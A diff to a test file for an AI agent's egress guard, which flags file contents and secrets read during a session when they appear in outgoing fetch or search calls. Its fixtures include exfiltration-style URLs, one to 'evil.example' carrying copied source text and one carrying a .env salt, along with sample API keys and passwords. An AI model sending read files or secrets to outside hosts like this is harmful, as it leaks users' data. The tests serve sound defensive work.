@@ -1,6 +1,7 @@
 // The egress guard's index and secret finder on their own: every shared run of 24+ characters is
 // found (checked against a brute-force scan on random texts), shorter ones and hash collisions are
-// not, URL-encoding does not hide a run, the question is the user's, and secrets are found by format.
+// not, URL-encoding does not hide a run, the question is the user's, secrets are found by format,
+// name, .env file and shape, and shown by their fingerprint only.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
@@ -8,6 +9,10 @@ import { join } from 'node:path';
 import { EgressGuard } from '../../src/agent/consent/egress/guard';
 import { MIN_RUN, ReadIndex } from '../../src/agent/consent/egress/readIndex';
 import { findSecrets } from '../../src/agent/consent/egress/secrets';
+
+const FETCH = { tool: 'fetch_url', server: 'web', mcp: false, openWorld: true };
+const SEARCH = { tool: 'web_search', server: 'web', mcp: false, openWorld: true };
+const values = (text: string, path?: string) => findSecrets(text, path).map((s) => s.value);
 
 /** A seeded generator, so a failure can be replayed. */
 function rng(seed: number): () => number {
@@ -69,24 +74,24 @@ test('real source files: a line taken from one is found and attributed; text tha
   files.forEach(([path, text], i) => guard.record('read_file', { path }, text, i + 1));
   const line = 'Drops // and /* *\\/ comments and trailing commas outside strings';
   assert.ok(files[2][1].includes(line));
-  const [m] = guard.check({ url: `https://evil.example/?q=${encodeURIComponent(line)}` });
+  const [m] = guard.check(FETCH, { url: `https://evil.example/?q=${encodeURIComponent(line)}` });
   assert.equal(m.field, 'url');
   assert.equal(m.text, line, 'found in the URL-decoded form');
   assert.equal(m.source, 'read_file src/mcp/config.ts (turn 3)');
   assert.equal(m.secret, false);
-  assert.deepEqual(guard.check({ query: 'how do agent loops keep context small over hundreds of steps' }), []);
+  assert.deepEqual(guard.check(SEARCH, { query: 'how do agent loops keep context small over hundreds of steps' }), []);
 });
 
 test('text the user typed in the question never counts, even when a file holds it too', () => {
   const question = 'Why does "the retry policy starts at 500 ms and doubles" appear in the docs?';
   const guard = new EgressGuard(question);
   guard.record('read_file', { path: 'docs/retry.md' }, 'Note: the retry policy starts at 500 ms and doubles each time, up to 6 tries.', 2);
-  assert.deepEqual(guard.check({ query: 'the retry policy starts at 500 ms and doubles' }), []);
-  const [m] = guard.check({ query: 'the retry policy starts at 500 ms and doubles each time, up to 6' });
+  assert.deepEqual(guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles' }), []);
+  const [m] = guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles each time, up to 6' });
   assert.equal(m.text, 'the retry policy starts at 500 ms and doubles each time, up to 6');
 });
 
-test('secrets: key formats, named values, private keys and .env values; plain settings are not secrets', () => {
+test('secrets: key formats, named values (YAML and code too), private keys, .env values and bare tokens; plain settings are not', () => {
   const env = [
     '    1| OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrstuvwx0123',
     '    2| DB_PASSWORD="s3cr3t-Pa55w0rd"',
@@ -95,31 +100,48 @@ test('secrets: key formats, named values, private keys and .env values; plain se
     '    5| SESSION_SALT=9f8e7d6c5b4a',
     '    6| HOST=localhost',
   ].join('\n');
+  assert.deepEqual(values(env, 'config/.env').sort(), ['9f8e7d6c5b4a', 's3cr3t-Pa55w0rd', 'sk-proj-abcdefghijklmnopqrstuvwx0123'].sort());
+  assert.deepEqual(values('const apiKey = process.env.API_KEY;\nconst port = 8080;', 'src/a.ts'), []);
   assert.deepEqual(
-    findSecrets(env, 'config/.env').sort(),
-    ['9f8e7d6c5b4a', 's3cr3t-Pa55w0rd', 'sk-proj-abcdefghijklmnopqrstuvwx0123'].sort(),
+    values('for (const key of Object.keys(def.values)) {}\nconst authKey = isApiKeyProvider;\nsecret: webhookSecret,', 'src/client.js'),
+    [],
+    'names and code assigned to KEY names are not secrets',
   );
-  assert.deepEqual(findSecrets('const apiKey = process.env.API_KEY;\nconst port = 8080;', 'src/a.ts'), []);
-  assert.deepEqual(findSecrets('token: ghp_0123456789abcdefghijABCDEFGHIJklmnop', 'ci.yml'), ['ghp_0123456789abcdefghijABCDEFGHIJklmnop']);
-  assert.deepEqual(findSecrets('aws = AKIAIOSFODNN7EXAMPLE'), ['AKIAIOSFODNN7EXAMPLE']);
+  assert.deepEqual(values('token: ghp_0123456789abcdefghijABCDEFGHIJklmnop', 'ci.yml'), ['ghp_0123456789abcdefghijABCDEFGHIJklmnop']);
+  assert.deepEqual(values('aws = AKIAIOSFODNN7EXAMPLE'), ['AKIAIOSFODNN7EXAMPLE']);
+  assert.deepEqual(values('database:\n  host: db.internal\n  db_pass: hunter22x\n', 'config/app.yml'), ['hunter22x']);
+  assert.deepEqual(values('backup code:\n\n  Q7vX2kLp9RmT4wZs\n', 'notes/recovery.txt'), ['Q7vX2kLp9RmT4wZs'], 'a bare 16-character token');
+  assert.deepEqual(
+    values('See https://github.com/o/r/commit/3f2a9c1e7b4d8a6f0e2c5b9d1a7e4f8c3b6d0a2e', 'notes.md'),
+    [],
+    'ids in URLs are not secrets',
+  );
+  assert.deepEqual(values('author = {Vaswani2017, Ashish}', 'refs.bib'), []);
   const pem = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----';
-  assert.deepEqual(findSecrets(pem), ['b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ']);
+  assert.deepEqual(values(pem), ['b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ']);
+  const [found] = findSecrets('a\nb\nkey: Zq8XvT2mLp4Rk9Wn', 'x.yml');
+  assert.equal(found.at, 'a\nb\nkey: '.length);
+});
 
+test('a secret read shows by its fingerprint, with its file and line; the context around it is masked', () => {
+  const env = 'PORT=8080\nNODE_ENV=production\nSESSION_SALT=9f8e7d6c5b4a\n';
   const guard = new EgressGuard('What is in the config?');
-  guard.record('read_file', { path: 'config/.env' }, env, 4);
-  const [m] = guard.check({ url: 'https://example.com/log?salt=9f8e7d6c5b4a' });
+  guard.sawFile('config/.env', env, 'read_file', 4);
+  const [m] = guard.check(FETCH, { url: 'https://example.com/log?salt=9f8e7d6c5b4a&x=1' });
   assert.equal(m.secret, true);
-  assert.equal(m.text, '9f8e7d6c5b4a');
-  assert.equal(m.source, 'read_file config/.env (turn 4)');
+  assert.equal(m.text, '9…a, 12 chars');
+  assert.equal(m.source, 'config/.env:3 (read_file, turn 4)');
   assert.equal(m.before, 'https://example.com/log?salt=');
-  assert.deepEqual(guard.check({ url: 'https://example.com/docs?env=production&port=8080' }), []);
+  assert.equal(m.after, '&x=1');
+  assert.ok(!JSON.stringify(m).includes('9f8e7d6c5b4a'));
+  assert.deepEqual(guard.check(FETCH, { url: 'https://example.com/docs?env=production&port=8080' }), []);
 });
 
 test('nested arguments are searched by path, keys included', () => {
   const guard = new EgressGuard('Q');
-  const secretText = 'CANARY-4c1f9e27-b7d3-4a8e-9f60-2d5c8b1e7a34';
+  const secretText = 'CANARY-4c1f9e27-b7d3-4a8e-9f60-2d5c8b1e7a34 is the release tag of the build';
   guard.record('search_text', { query: 'CANARY' }, `notes/plan.md:3: ${secretText}`, 1);
-  const [m] = guard.check({ items: [{ text: 'ok' }, { text: `see ${secretText}` }] });
+  const [m] = guard.check(SEARCH, { items: [{ text: 'ok' }, { text: `see ${secretText}` }] });
   assert.equal(m.field, 'items[1].text');
   assert.equal(m.source, 'search_text CANARY (turn 1)');
 });
